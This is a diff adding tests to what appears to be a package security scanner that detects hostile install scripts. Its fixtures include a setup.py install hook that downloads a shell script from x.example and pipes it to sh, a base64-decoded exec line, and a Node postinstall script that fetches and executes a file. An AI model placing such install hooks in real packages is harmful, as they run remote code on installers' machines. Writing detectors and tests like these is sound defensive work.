@@ -228,3 +228,41 @@ def test_secrets_in_commands_are_not_printed() -> None:
     )
     (one,) = found(files)
     assert token not in repr(one)
+
+
+SETUP = """from setuptools import setup
+import subprocess, urllib.request
+class Install(object):
+    def run(self):
+        answer = urllib.request.urlopen("https://x.example/a.sh")
+        # a comment
+        subprocess.run(["sh"], input=answer.read())
+setup(name="p", cmdclass={"install": Install})
+"""
+
+
+def test_files_of_the_build_that_no_front_end_read_are_told_by_their_calls() -> None:
+    (one,) = [each for each in found({"setup.py": SETUP}) if each.rule != "licence-unclear"]
+    assert (one.rule, one.severity, one.location.line) == (
+        "install-script-fetch",
+        Severity.HIGH,
+        7,
+    )
+    quiet = SETUP.replace("urllib.request.urlopen", "print").replace("subprocess.run", "print")
+    assert rules({"setup.py": quiet}) == ["install-script"]
+    said = 'from setuptools import setup\nDOC = "subprocess.run(urlopen(1))"\nsetup(name="p")\n'
+    assert rules({"setup.py": said}) == []
+    hidden = (
+        "import base64\nexec(base64.b64decode('aGk='))\nfrom setuptools import setup\nsetup()\n"
+    )
+    (evil,) = found({"setup.py": hidden})
+    assert (evil.rule, evil.location.line) == ("install-script-hostile", 2)
+
+
+def test_scripts_of_the_build_that_no_front_end_read() -> None:
+    files = package("postinstall", "node setup.js")
+    files["setup.js"] = "// fetch(1)\nhttps.get(url, (a) => {\n  execFileSync(file);\n});\n"
+    (one,) = found(files)
+    assert (one.rule, one.location.line) == ("install-script-fetch", 3)
+    files["setup.js"] = "// fetch(1)\nfs.writeFileSync(a, b);\n"
+    assert rules(files) == ["install-script"]
